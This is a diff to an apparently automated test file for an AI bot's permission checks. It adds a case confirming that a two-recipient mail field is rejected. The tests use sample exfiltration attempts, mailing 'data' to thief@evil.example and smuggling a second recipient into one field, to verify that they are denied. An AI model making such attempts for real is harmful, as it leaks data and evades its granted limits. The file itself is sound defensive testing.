@@ -120,6 +120,8 @@ async def denials(bot, ops, world):
     scene("What is not granted is denied, and says why")
     out = await tell(bot, "mail.send", to="thief@evil.example", subject="data", text="here it is")
     expect.that(decision(out).get("outcome") == "denied", "mail goes to customers only")
+    two = await tell(bot, "mail.send", to="thief@evil.example,nora@customers.example", subject="data", text="here it is")
+    expect.that(decision(two).get("outcome") == "invalid", "and to one at a time: a second recipient cannot be smuggled in")
     gone = await tell(ops, "tickets.delete", ticket_id=1)
     expect.that(decision(gone).get("question") == 7, "nothing is deleted in production, whoever asks")
     expect.that(await world.count("SELECT count(*) FROM ticket WHERE id = 1") == 1, "the ticket is still there")
